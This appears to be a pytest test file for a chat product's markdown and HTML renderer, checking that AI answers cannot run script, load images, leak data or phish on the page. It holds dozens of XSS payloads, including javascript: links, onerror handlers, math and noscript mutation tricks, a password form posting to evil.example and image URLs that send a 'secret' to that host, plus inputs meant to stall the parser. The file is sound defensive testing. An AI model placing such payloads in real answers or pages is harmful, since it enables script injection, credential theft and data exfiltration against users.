"""Answers written to do harm. What comes out is judged by a list of its own, not by the product's."""

import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from yoriai.web.cleaning import clean_html, clean_text
from yoriai.web.markdown import Labels, StreamingMarkdown, render

LABELS = Labels(copy="Copy", image="image")
TAGS = """
    p br hr h3 h4 h5 h6 strong em s code pre blockquote ul ol li table thead tbody tr th td div span a button
    math mrow mi mn mo mtext mspace mfrac msqrt mroot mstyle msub msup msubsup munder mover munderover
    mtable mtr mtd mpadded mphantom menclose
"""
ATTRIBUTES = """
    class href title target rel start type data-copy display alttext mathvariant stretchy fence form movablelimits
    accent minsize maxsize width height depth lspace voffset linethickness displaystyle scriptlevel mathcolor
    columnalign columnlines rowlines columnspacing rowspacing notation largeop
"""
HIDDEN = (
    "\x00\x1b\x7f\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff\U000e0041"
)


class Inspector(HTMLParser):
    """Collects what a browser would act upon and an answer must not hold."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS.split():
            self.findings.append(f"<{tag}>")
        for name, value in attrs:
            self._judge(tag, name, value or "")

    def _judge(self, tag: str, name: str, value: str) -> None:
        if name not in ATTRIBUTES.split():
            self.findings.append(f"{tag}.{name}")
        if name == "class" and not all(part.startswith("y-") for part in value.split()):
            self.findings.append(f"class {value}")
        if name == "href" and urlsplit(value).scheme not in {"http", "https", "mailto"}:
            self.findings.append(f"href {value}")
        if name in {"width", "height", "depth", "voffset", "lspace"} and re.search(r"\d{3}|-[2-9]", value):
            self.findings.append(f"{name} {value}")

    def handle_data(self, data: str) -> None:
        self.text += data
        self.findings += [repr(char) for char in data if char in HIDDEN or "\ud800" <= char <= "\udfff"]

    def handle_comment(self, data: str) -> None:
        self.findings.append("comment")


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>click</math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><iframe src='javascript:alert(1)'></annotation-xml></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input type=password name=p><button formaction=//evil.example>Log in</form>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>covers the screen</div>",
    "<p id=app class='q-dialog fixed-full'>takes the page's names</p>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='//evil.example' target=_self rel=opener>x</a>",
    "<a href='/logout'>x</a>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>",
    "<object data=x></object><embed src=x><video src=https://evil.example><audio src=x><source srcset=x>",
    "<!-- comment --><![CDATA[<script>alert(1)</script>]]><?php x ?>",
    "<details open ontoggle=alert(1)><template><script>alert(1)</script></template><slot name=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mspace width='-9000em' height='9000em'/><mpadded voffset='-999em'>x</mpadded></math>",
    "a\u202eb\u2066c\x00d\U000e0041e\ufefff\x1b[31mg",
]
HOSTILE_MARKDOWN = [
    *HOSTILE_HTML,
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](?logout)",
    "[x](#app)",
    "[x](https:evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](https://bank.example@evil.example/)",
    "[x](https://bank.example\\@evil.example/)",
    "[x](ftp://evil.example) [x](blob:https://evil.example/1) [x](intent://x)",
    '[x](https://evil.example "a" onclick=alert(1))',
    '[x](https://evil.example "\\"><script>alert(1)</script>")',
    '[x](https://evil.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<https://evil.example/'onclick='alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/log?secret=1)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x][r]\n\n[r]: https://evil.example/log?secret=1",
    '![" onerror="alert(1)](https://evil.example/x "t")',
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "![<img src=x onerror=alert(1)>](https://evil.example)",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "```python style=color:red {.q-btn}\nx = '</code></pre><script>alert(1)</script>'\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "|<script>alert(1)</script>|<b onclick=1>|\n|-|-|\n|<iframe>|x|",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{</math><script>alert(1)</script>}$",
    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$\unicode{3c}script\unicode{3e}$ $\unicode{202e}$ $\unicode{d800}$",
    r"$\style{position:fixed;inset:0}{x} \class{q-btn fixed-full}{x}$",
    r"$\color{red;background:url(https://evil.example)}{x}$",
    r"$\hspace{-9000em} \rule{9000em}{9000em} \raise{9000em}{x} \kern{-9000px} x$",
    r"$\mathrm{<img src=x onerror=alert(1)>}$",
    '$"><img src=x onerror=alert(1)>$',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;lt;script&amp;gt;",
    "&#x202e;evil &#8238;evil &#0; &#xd800; &#x200f;",
    "# <script>alert(1)</script>\n\n<b>\n===",
    "- [x] <input autofocus onfocus=alert(1)>",
]


@pytest.mark.parametrize("attack", HOSTILE_HTML)
def test_the_inspector_finds_what_is_wrong_with_an_attack_that_nothing_has_cleaned(attack: str) -> None:
    assert inspect(attack).findings


@pytest.mark.parametrize("attack", HOSTILE_MARKDOWN)
def test_nothing_in_an_answer_acts_on_the_page(attack: str) -> None:
    for text in (attack, f"Before\n{attack}\nafter", f"> - {attack}", f"**{attack}**", f"|{attack}|\n|-|"):
        assert inspect("".join(render(text, LABELS))).findings == []


@pytest.mark.parametrize("attack", HOSTILE_MARKDOWN)
def test_nothing_acts_on_the_page_while_an_answer_is_still_being_written(attack: str) -> None:
    markdown = StreamingMarkdown(LABELS)
    for end in range(len(attack)):
        assert inspect("".join(markdown.update(attack[: end + 1])[1])).findings == []


@pytest.mark.parametrize("attack", HOSTILE_HTML)
def test_the_last_step_alone_makes_html_harmless(attack: str) -> None:
    assert inspect(clean_html(f"<p>kept</p>{attack}")).findings == []
    assert clean_html(f"<p>kept</p>{attack}").startswith("<p>kept</p>")


def test_the_last_step_leaves_what_the_product_writes_as_it_is() -> None:
    for html in (
        '<div class="y-code"><button class="y-copy" type="button" data-copy="">Copy</button></div>',
        '<a href="https://a.example/" title="a.example" target="_blank" rel="noopener noreferrer nofollow">x</a>',
        '<math display="block"><mrow><mspace width="0.333em"></mspace><mo stretchy="false">(</mo></mrow></math>',
        '<pre><code><span class="y-k">def</span></code></pre>',
    ):
        assert clean_html(html) == html


def test_html_in_an_answer_is_shown_as_the_text_it_is() -> None:
    for html in HOSTILE_HTML[:-1]:
        shown = inspect("".join(render(f"```\n{html}\n```", LABELS))).text
        assert html in shown
    assert inspect("".join(render("say <b>hi</b>", LABELS))).text == "say <b>hi</b>\n"


@pytest.mark.parametrize("text", [attack for attack in HOSTILE_MARKDOWN if attack.startswith("[x](")])
def test_a_link_that_is_not_allowed_is_no_link(text: str) -> None:
    html = "".join(render(text, LABELS))
    assert 'title="bank.example"' not in html
    assert "<a " not in html or 'title="evil.example"' in html


def test_an_image_is_never_loaded_and_shown_as_a_link() -> None:
    html = "".join(render("![A chart](https://evil.example/log?secret=1)", LABELS))
    assert html == (
        '<p><a class="y-image" href="https://evil.example/log?secret=1" title="evil.example" target="_blank" '
        'rel="noopener noreferrer nofollow">[image: A chart]</a></p>\n'
    )


def test_text_may_be_cleaned_in_parts() -> None:
    text = "a\u202eb\x00c\ud83d\ude00d\r\ne\u2028f\tg\U000e0041h 👩‍👩‍👧"
    assert clean_text(text) == "".join(clean_text(char) for char in text)
    assert clean_text(text) == "ab\ufffdc\ufffd\ufffdd\ne\nf\tgh 👩‍👩‍👧"


MEGABYTE = 1_000_000
SLOW = {
    "one word": "a" * MEGABYTE,
    "Japanese without a space": "あ" * MEGABYTE,
    "quotes": "> " * (MEGABYTE // 2),
    "quotes within quotes": ("> " * 60 + "a\n") * (MEGABYTE // 122),
    "brackets": "[" * MEGABYTE,
    "brackets and links": ("[" * 50 + "](x)") * (MEGABYTE // 54),
    "images": "![" * (MEGABYTE // 2),
    "images within images": "![" * 5_000 + "a" + "](http://a.b)" * 5_000,
    "lists on a line": "- " * (MEGABYTE // 2),
    "lists": "- a\n" * (MEGABYTE // 4),
    "lists within lists": "".join("  " * depth + "- a\n" for depth in range(900)),
    "emphasis": "*_" * (MEGABYTE // 2),
    "emphasis that never closes": "**a*b " * (MEGABYTE // 6),
    "backticks of every length": "".join("`" * length + " " for length in range(1_400)),
    "formulas": "$x$ " * (MEGABYTE // 4),
    "formulas that never close": "\\[x\n" * (MEGABYTE // 4),
    "nested formula": "$" + "{" * 1_400 + "}" * 1_400 + "$",
    "addresses": "http://" * (MEGABYTE // 7),
    "schemes": "a ://" * (MEGABYTE // 5),
    "address with brackets": "http://a.b/" + ")" * MEGABYTE,
    "table": "|a|b|\n|-|-|\n" + "|1|2|\n" * (MEGABYTE // 6),
    "wide table": "|" + "a|" * 10_000 + "\n|" + "-|" * 10_000 + "\n" + "|a|\n" * 1_000,
    "unclosed fence": "```python\n" + "x = 1\n" * (MEGABYTE // 6),
    "fences": "```python\nx\n```\n" * (MEGABYTE // 16),
    "paragraphs": "a\n\n" * (MEGABYTE // 3),
    "ampersands": "&" * MEGABYTE,
    "empty lines of C": "```c\na " + "\n" * 5_000 + "\n!\n```\n",
    "words of C#": "```csharp\n" + "a\n" * 4_000 + "```\n",
    "backslashes of Scala": '```scala\n"' + "\\" * 4_000 + "\n```\n",
    "dollars of Java": "```java\n" + "$\n" * 20_000 + "```\n" + "```java\n" + "$\n" * 20_000 + "```\n",
    "macros": (r"$\def\a{" + "x+" * 700 + "}" + r"\a" * 90 + "$\n\n") * 50,
}


@pytest.mark.parametrize("name", SLOW)
def test_no_answer_keeps_the_server_busy(name: str) -> None:
    begin = time.thread_time()
    blocks = render(SLOW[name], LABELS)
    assert time.thread_time() - begin < 2
    assert blocks


@pytest.mark.parametrize(
    "text", ["> " * 30 + "deep", "".join("  " * n + "- a\n" for n in range(30)) + "  " * 30 + "deep"]
)
def test_what_nests_too_deep_to_parse_is_shown_as_plain_text(text: str) -> None:
    shown = inspect("".join(render(f"before\n\n{text}\n\nafter", LABELS))).text
    assert [word in shown for word in ("before", "deep", "after")] == [True] * 3
